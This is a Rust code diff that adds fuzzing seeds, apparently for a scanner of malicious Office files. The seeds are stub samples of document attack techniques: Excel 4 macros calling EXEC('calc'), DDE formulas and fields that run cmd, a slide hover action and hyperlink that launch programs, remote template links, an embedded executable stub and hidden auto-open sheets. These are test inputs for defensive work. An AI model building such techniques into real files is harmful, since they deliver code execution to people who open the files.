@@ -15,7 +15,7 @@ use crate::common::encrypt::{self, Binary, EXCEL};
 use crate::common::office::{self, ModuleKind};
 use crate::common::ooxml::{self, Member};
 use crate::common::wrappings as wrap;
-use crate::common::{archives, awkward, excel4, images, milter, ovba, samples, sevenz};
+use crate::common::{archives, awkward, excel4, images, milter, objects, ovba, samples, sevenz};
 
 /// The seeds of a target.
 pub fn of(name: &str) -> Vec<Vec<u8>> {
@@ -124,6 +124,9 @@ fn macro_sheets() -> Vec<Vec<u8>> {
     let mut seeds: Vec<Vec<u8>> = lines.collect();
     seeds.push([vec![1], book.sylk()].concat());
     seeds.extend([stream(excel4::Version::Biff8), stream(excel4::Version::Biff5)]);
+    seeds.extend([2, 3, 4].map(|generation| [vec![0], excel4::bare(generation, "calc")].concat()));
+    let styled = excel4::Book { look: 2, ..book };
+    seeds.push([vec![0], styled.stream(excel4::Version::Biff8)].concat());
     seeds
 }
 
@@ -173,6 +176,7 @@ fn compound_files() -> Vec<Vec<u8>> {
         office::vba_project(&modules),
         office::doc_with_macros("text", &modules[..1]),
         office::xls_with_macros(&["a"], &modules[1..]),
+        objects::old_slide(2, "calc", "http://example.org/", true),
         office::Compound::new()
             .stream("/\u{1}Ole10Native", b"\x20\0\0\0\x02\0a.exe\0a.exe\0\0\0\x03\0\x06\0\0\0a.exe\0\x04\0\0\0MZ\0\0")
             .finish(),
@@ -242,6 +246,10 @@ fn named_files() -> Vec<Vec<u8>> {
             &b"a\nRar!\x1a\x07\x01\0"[..],
             b"a\n7z\xbc\xaf\x27\x1c",
             b"a.js\nvar a",
+            b"a.iqy\nWEB\n1\nhttp://example.org/a\n",
+            b"a.xls\n\x09\0\x04\0\x02\0\x40\0\x06\0\x01\0a",
+            b"a.swf\nCWS\x0a\0\x10\0\0\x78\x9c",
+            b"a.xls\n<html><td>=cmd|'/c a'!A0</td></html>",
             b"a\nMZ",
             b"a\n%PDF-1.7",
             b"a\n{\\rtf1",
@@ -262,6 +270,10 @@ fn packages() -> Vec<Vec<u8>> {
     const OUTSIDE: &[u8] = br#"<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.org/a.dotm" TargetMode="External"/></Relationships>"#;
     const TEXT: &[u8] = br#"<w:document><w:body><w:p><w:r><w:t>Enable &amp;content</w:t></w:r><w:instrText> DDEAUTO c:\\a "b" </w:instrText></w:p></w:body></w:document>"#;
     const SHEET: &[u8] = br#"<workbook><sheets><sheet name="a" sheetId="1" state="veryHidden" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">a!$A$1</definedName></definedNames></workbook>"#;
+    const SLIDE: &[u8] = br#"<p:sld><a:hlinkMouseOver r:id="r" action="ppaction://program"/></p:sld>"#;
+    const LINK: &[u8] = br#"<Relationships><Relationship Id="r" Type="x/hyperlink" Target="cmd%20/c%20a" TargetMode="External"/></Relationships>"#;
+    const CONTROL: &[u8] = br#"<ax:ocx ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"><ax:ocxPr ax:name="Movie" ax:value="http://example.org/"/></ax:ocx>"#;
+    const LOOKS: &[u8] = br#"<styleSheet><fonts><font><color rgb="FFFFFFFF"/></font></fonts><cellXfs><xf fontId="0"/></cellXfs></styleSheet>"#;
     vec![
         [record(0, TYPES), record(1, RELATIONS), record(2, TEXT), record(3, OUTSIDE)].concat(),
         [
@@ -274,6 +286,8 @@ fn packages() -> Vec<Vec<u8>> {
         .concat(),
         [record(0, TYPES), record(8, SHEET), record(9, OUTSIDE), record(10, b"<sst><si><t>a</t></si></sst>")].concat(),
         [record(12, b"<macrosheet><f>EXEC(\"calc\")</f></macrosheet>"), record(13, OUTSIDE)].concat(),
+        [record(16, SLIDE), record(17, LINK)].concat(),
+        [record(18, CONTROL), record(19, &objects::film()), record(20, LOOKS)].concat(),
     ]
 }
 
